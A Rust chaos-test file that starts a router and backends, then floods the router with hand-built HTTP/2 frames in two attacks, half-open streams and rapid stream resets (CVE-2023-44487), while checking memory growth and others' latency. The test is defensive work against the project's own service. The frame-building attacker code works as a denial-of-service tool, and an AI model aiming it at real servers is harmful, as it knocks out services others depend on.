//! Row 14: a client without manners: calls opened and never finished, calls opened and reset.

use std::{io, net::SocketAddr, time::Duration};

use plexus_proto::v1::Domain;
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
    task::JoinSet,
    time::{Instant, sleep},
};

use super::Setting;
use crate::chaos::{
    Check, Checks, Limit, Topology, doors, only, scripted_engine,
    watch::{self, Peak},
};

/// Frames of one burst, and the pause after it: the attackers share a core with the generator.
const BURST: (usize, Duration) = (200, Duration::from_millis(10));
/// Bursts of one connection.
const BURSTS: usize = 50;
/// What each half-open call claims will come, bytes.
const CLAIM: u32 = 4 * 1024 * 1024;

/// Runs it.
///
/// # Errors
/// None; what cannot be started panics.
pub async fn run(setting: Setting) -> anyhow::Result<Checks> {
    let engine = scripted_engine("42");
    let one = setting.rig.specialist(Domain::Math, &engine).await;
    let two = setting.rig.specialist(Domain::Math, &engine).await;
    let router = setting
        .rig
        .router(&Topology::of(Domain::Math, &[one.address, two.address]))
        .await;
    let load = setting.load(only(Domain::Math, setting.seed), Duration::from_secs(5));
    let running = load.start(&doors(&[&router], 8));
    setting.warm_up().await;
    let begun = Instant::now();
    sleep(setting.phase).await;
    let pid = router.process.pid();
    let before = watch::held(pid);
    let peak = Peak::of(pid);
    let attacked = Instant::now();
    let mut attackers = JoinSet::new();
    for kind in [Kind::HalfOpen, Kind::Reset] {
        attackers.spawn(attack(router.address, kind));
    }
    sleep(setting.phase).await;
    let ended = Instant::now();
    attackers.shutdown().await;
    let peak = peak.stop().await;
    let log = running.stop().await;

    let p99_before = log.between(begun, attacked).quantile(0.99);
    let p99_after = log.between(attacked, ended).quantile(0.99);
    log.tell();
    Ok(vec![
        Check::new(
            "RSS",
            watch::growth_mib(before.resident, peak),
            "MiB",
            Limit::Below(64.0),
        ),
        Check::new("p99 of others", p99_after / p99_before, "x", Limit::Below(2.0)),
        Check::at_most("others failed", log.failed(), 0),
        Check::shown("p99 before", p99_before, "ms"),
        Check::shown("p99 under attack", p99_after, "ms"),
    ])
}

/// What an attacker does.
#[derive(Debug, Clone, Copy)]
enum Kind {
    /// Opens calls that claim a large message and send none of it.
    HalfOpen,
    /// Opens calls and takes them back at once (CVE-2023-44487).
    Reset,
}

/// Attacks until it is ended, with a new connection whenever one is cut.
async fn attack(address: SocketAddr, kind: Kind) {
    loop {
        // Being thrown out is what is hoped for.
        let _ = connection(address, kind).await;
        sleep(BURST.1).await;
    }
}

async fn connection(address: SocketAddr, kind: Kind) -> io::Result<()> {
    let (mut read, mut write) = TcpStream::connect(address).await?.into_split();
    // What the server says is thrown away, or it could not say more.
    let reading = async move {
        let mut buffer = vec![0; 16 * 1024];
        while read.read(&mut buffer).await? > 0 {}
        Ok(())
    };
    let writing = async move {
        write.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await?;
        write.write_all(&frame(4, 0, 0, &[])).await?;
        let headers = headers();
        let mut stream = 1u32;
        for _ in 0..BURSTS {
            let mut burst = Vec::new();
            for _ in 0..BURST.0 {
                burst.extend(frame(1, 4, stream, &headers));
                match kind {
                    Kind::HalfOpen => {
                        let mut prefix = vec![0];
                        prefix.extend(CLAIM.to_be_bytes());
                        burst.extend(frame(0, 0, stream, &prefix));
                    }
                    Kind::Reset => burst.extend(frame(3, 0, stream, &8u32.to_be_bytes())),
                }
                stream += 2;
            }
            write.write_all(&burst).await?;
            sleep(BURST.1).await;
        }
        Ok(())
    };
    tokio::select! {
        end = reading => end,
        end = writing => end,
    }
}

/// Headers of a call as literals without indexing (RFC 7541, section 6.2.2).
fn headers() -> Vec<u8> {
    let mut headers = Vec::new();
    for (name, value) in [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", "/plexus.v1.RouterService/Ask"),
        (":authority", "mesh"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ] {
        headers.push(0);
        for text in [name, value] {
            headers.push(u8::try_from(text.len()).expect("all of them are short"));
            headers.extend(text.as_bytes());
        }
    }
    headers
}

/// A frame (RFC 9113, section 4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("payloads are short").to_be_bytes();
    let mut frame = length[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}
